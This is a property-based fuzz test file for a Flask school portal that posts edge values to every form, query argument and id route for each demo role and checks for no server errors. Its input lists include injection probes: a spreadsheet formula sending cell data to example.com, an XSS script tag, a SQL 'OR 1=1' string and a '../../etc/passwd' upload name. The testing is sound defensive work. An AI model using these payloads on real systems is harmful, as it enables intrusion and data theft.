"""No 500 from bad input, found by property-based testing (hypothesis) over everything the app
offers each role: every form every demo account can reach (found by crawling its pages, not
from a hand list), every query argument its links and filters use, every route with an id.

Values are edge values (NUL and other control characters, formulas, very long and unusual
text, numbers beyond 32 and 64 bits, dates in year 1, 1990 and 9999, impossible dates, random
bytes as an upload) mixed with the values the page itself offers, so a post gets past the
first field and reaches the later checks. ``FUZZ_EXAMPLES`` sets the examples per form (CI:
the default; raise it locally to search longer).
"""

from __future__ import annotations

import io
import os
from datetime import date

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devdata.demo import DEMO_ACCOUNTS, DEMO_PASSWORD
from tests.conftest import do_login, extract_csrf
from tests.fuzzing import Field, Form, Site, crawl, local

TODAY = date(2026, 11, 23)
EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "6"))

TEXT_EDGES = [
    "",
    " ",
    "\x00",
    "naam\x00met nul",
    "\x01\x02\x1b[31m\x1f",
    "regel\r\nregel",
    '=HYPERLINK("http://example.com/?d="&B2)',
    "+31 6 1234",
    "@SUM(A1:A9)",
    "x" * 5000,
    "😀" * 100,
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "\u202e\ufeff\u200b",
    "\ud7ff",  # the last code point before the surrogates
]
NUMBER_EDGES = [
    "0",
    "-1",
    "1",
    "2147483648",
    "99999999999",
    "9223372036854775808",
    "99999999999999999999",
    "1e309",
    "NaN",
    "-inf",
    "1,5",
    "0.000001",
]
DATE_EDGES = [
    "0001-01-01",
    "1990-06-15",
    "1999-12-31",
    "2026-02-30",
    "2026-11-23",
    "2027-11-23",
    "2101-01-01",
    "9999-12-31",
    "99999-01-01",
    "23-11-2026",
    "2026-11-23T10:00",
]
EDGES = TEXT_EDGES + NUMBER_EDGES + DATE_EDGES
UPLOAD_NAMES = ["verzuim.csv", "verzuim.xlsx", "leerlingen.txt", "", "../../etc/passwd.csv"]


@pytest.fixture()
def demo(app: Flask, monkeypatch: pytest.MonkeyPatch) -> Flask:
    """The demo region: every role, every kind of record."""
    monkeypatch.setattr("portal.calendar.today", lambda: TODAY)
    result = app.test_cli_runner().invoke(args=["demo-data"])
    assert result.exit_code == 0, result.output
    return app


def _client(app: Flask, email: str) -> FlaskClient:
    client = app.test_client()
    assert do_login(client, email, DEMO_PASSWORD).status_code == 302, email
    return client


def _values(item: Field) -> st.SearchStrategy[str]:
    """A value for ``item``: what the page offers, an edge value, or random text."""
    own = [item.value, *item.options]
    return st.one_of(st.sampled_from(own), st.sampled_from(EDGES), st.text(max_size=30))


def _upload() -> st.SearchStrategy[tuple[io.BytesIO, str]]:
    return st.tuples(st.binary(max_size=3000).map(io.BytesIO), st.sampled_from(UPLOAD_NAMES))


@st.composite
def _submission(draw: st.DrawFn, form: Form) -> dict[str, object]:
    """The form's own values with one field changed, or every field drawn freely."""
    fields = [f for f in form.fields if f.name != "csrf_token"]
    one_field = draw(st.booleans())
    target = draw(st.sampled_from(fields)) if fields and one_field else None
    data: dict[str, object] = {}
    for item in fields:
        drawn = target is None or item is target
        if item.kind == "file":
            data[item.name] = draw(_upload())
        elif item.kind in ("checkbox", "radio", "button", "submit"):
            if not drawn:
                if item.kind != "button" and item.checked:
                    data.setdefault(item.name, item.value)
            elif draw(st.booleans()):
                data[item.name] = draw(_values(item))
        elif not drawn:
            data.setdefault(item.name, item.value)
        elif draw(st.integers(0, 9)):  # now and then a field is left out
            data[item.name] = draw(_values(item))
    return data


def _fuzz_form(client: FlaskClient, form: Form, token: str, who: str) -> None:
    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(data=_submission(form), htmx=st.booleans())
    def post(data: dict[str, object], htmx: bool) -> None:
        headers = {"HX-Request": "true"} if htmx and form.htmx else {}
        response = client.post(
            local(form.action),
            data={"csrf_token": token, **data},
            headers=headers,
            content_type="multipart/form-data" if form.multipart else None,
        )
        assert response.status_code < 500, (who, form.action, data, response.status_code)

    post()


ROLES = [email for email, _ in sorted(DEMO_ACCOUNTS.items(), key=lambda kv: kv[1][1] == "admin")]


@pytest.mark.parametrize("email", ROLES)
def test_no_form_or_query_argument_of_any_role_answers_500(demo: Flask, email: str) -> None:
    client = _client(demo, email)
    site = crawl(client)
    assert site.query_args, "the crawler found no query arguments"
    _query_fuzz(client, site, email)
    assert site.forms, "the crawler found no forms"
    broken = {path: code for path, code in site.statuses.items() if code >= 500}
    assert not broken, broken
    for form in site.forms.values():
        page = client.get(local(form.page))
        if page.status_code != 200:
            continue  # a record an earlier post removed
        _fuzz_form(client, form, extract_csrf(page.get_data(as_text=True)), email)
    # The user can still work afterwards.
    assert client.get("/").status_code == 200


def _query_fuzz(client: FlaskClient, site: Site, who: str) -> None:
    names = sorted(site.query_args)
    if not names:
        return
    pages = sorted({path.split("?")[0] for path in site.pages.values()})

    @settings(
        max_examples=max(EXAMPLES * 10, 40),
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(
        page=st.sampled_from(pages),
        args=st.dictionaries(
            st.sampled_from(names),
            st.one_of(st.sampled_from(EDGES), st.text(max_size=20)),
            max_size=4,
        ),
    )
    def get(page: str, args: dict[str, str]) -> None:
        response = client.get(page, query_string=args)
        assert response.status_code < 500, (who, page, args, response.status_code)

    get()


HUGE = ["2147483648", "9223372036854775808", "99999999999999999999", "0"]


def test_no_id_in_a_path_answers_500(demo: Flask) -> None:
    """Every route with a number in its path, with numbers beyond 32 and 64 bits (and 0), as
    each role: a 404 like any unknown id (or 403/405), never a database error."""
    clients = {email: _client(demo, email) for email in ROLES}
    rules = [r for r in demo.url_map.iter_rules() if r.arguments and r.endpoint != "static"]
    assert rules
    for rule in rules:
        for value in HUGE:
            path = rule.rule
            for argument in rule.arguments:
                kind = "int" if f"<int:{argument}>" in path else ""
                path = path.replace(f"<int:{argument}>", value).replace(
                    f"<{argument}>", "x\x00" if not kind else value
                )
            for email, client in clients.items():
                for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                    response = client.open(path, method=method, data={})
                    assert response.status_code < 500, (email, method, path)
                    if value != "0" and "<int:" in rule.rule:
                        assert response.status_code in (400, 403, 404, 405), (
                            email,
                            method,
                            path,
                            response.status_code,
                        )
